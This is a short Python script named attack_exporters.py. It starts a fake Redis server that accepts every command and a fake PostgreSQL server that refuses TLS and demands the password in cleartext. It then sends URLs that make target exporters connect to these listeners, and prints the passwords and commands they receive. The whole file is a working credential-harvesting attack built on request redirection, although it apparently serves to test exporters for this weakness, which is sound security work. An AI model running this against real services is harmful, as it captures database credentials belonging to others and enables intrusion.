"""Runs inside a container's network: asks exporters to connect to this address, and prints what they send.

`attack_exporters.py URL …`: in each URL, `{redis}` and `{postgres}` stand for the address of a server of this program.
The Redis one answers OK to every command, the PostgreSQL one asks for the password in clear text. Prints the answers to
the URLs and all that the two servers received, as JSON.
"""

from __future__ import annotations

import json
import socket
import socketserver
import sys
import threading
import urllib.error
import urllib.request

received: list[str] = []


class Redis(socketserver.BaseRequestHandler):
    """Answers every command with OK."""

    def handle(self) -> None:
        while data := self.request.recv(65536):
            received.append(data.decode("latin-1"))
            self.request.sendall(b"+OK\r\n" * max(1, data.count(b"*")))


class Postgres(socketserver.BaseRequestHandler):
    """Wants the password as it is, in clear text; refuses TLS."""

    def handle(self) -> None:
        while data := self.request.recv(65536):
            received.append(data.decode("latin-1"))
            ssl_request = data[4:8] == (80877103).to_bytes(4, "big")
            self.request.sendall(b"N" if ssl_request else b"R\0\0\0\x08\0\0\0\x03")


def serve(handler: type[socketserver.BaseRequestHandler], address: str) -> str:
    server = socketserver.ThreadingTCPServer((address, 0), handler)
    server.daemon_threads = True
    threading.Thread(target=server.serve_forever, daemon=True).start()
    return f"{address}:{server.server_address[1]}"


def own_address(towards: str) -> str:
    """The address under which a host of this network sees us."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
        probe.connect((towards, 9))
        return str(probe.getsockname()[0])


def ask(url: str) -> str:
    try:
        with urllib.request.urlopen(url, timeout=15) as answer:
            return answer.read().decode()
    except urllib.error.HTTPError as error:
        return f"{error.code} {error.read().decode()}"
    except OSError as error:
        return f"no answer: {error}"


if __name__ == "__main__":
    host = sys.argv[1].split("/")[2].split(":")[0]
    own = own_address(host)
    places = {"redis": serve(Redis, own), "postgres": serve(Postgres, own)}
    answers = [ask(url.format(**places)) for url in sys.argv[1:]]
    print(json.dumps({"answers": answers, "received": "".join(received)}))
